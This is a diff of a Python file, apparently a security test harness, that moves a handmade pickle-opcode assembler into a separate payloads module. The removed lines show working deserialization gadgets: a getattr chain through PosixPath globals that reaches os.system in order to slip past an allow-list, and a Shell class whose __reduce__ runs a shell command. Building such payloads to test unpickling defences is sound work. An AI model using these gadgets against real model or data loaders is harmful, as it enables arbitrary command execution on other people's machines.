@@ -50,38 +50,7 @@ def _rehash(step_dir):
             _record(step_dir, manifest, name)
 
 
-# ---- a tiny pickle assembler (protocol 4 opcodes) for payloads pickle.dumps cannot write
-def S(text):
-    raw = text.encode()
-    return b"\x8c" + bytes([len(raw)]) + raw
-
-
-def G(module, name):
-    return S(module) + S(name) + b"\x93"
-
-
-def CALL(func, *args):
-    return func + b"(" + b"".join(args) + b"t" + b"R"
-
-
-def P(body):
-    return b"\x80\x04" + body + b"."
-
-
-def getattr_chain(cmd):
-    """os.system(cmd) reached only through getattr and a class the old allow-list had (PosixPath)."""
-    ga = G("builtins", "getattr")
-    glob = CALL(ga, CALL(ga, G("pathlib", "PosixPath"), S("exists")), S("__globals__"))
-    os_mod = CALL(CALL(ga, glob, S("get")), S("os"))
-    return P(CALL(CALL(ga, os_mod, S("system")), S(cmd)))
-
-
-class Shell:
-    def __init__(self, cmd):
-        self.cmd = cmd
-
-    def __reduce__(self):
-        return os.system, (self.cmd,)
+from payloads import CALL, G, P, S, Shell, byte_record, getattr_chain  # noqa: E402
 
 
 def _metadata_pickles(md, cmd):
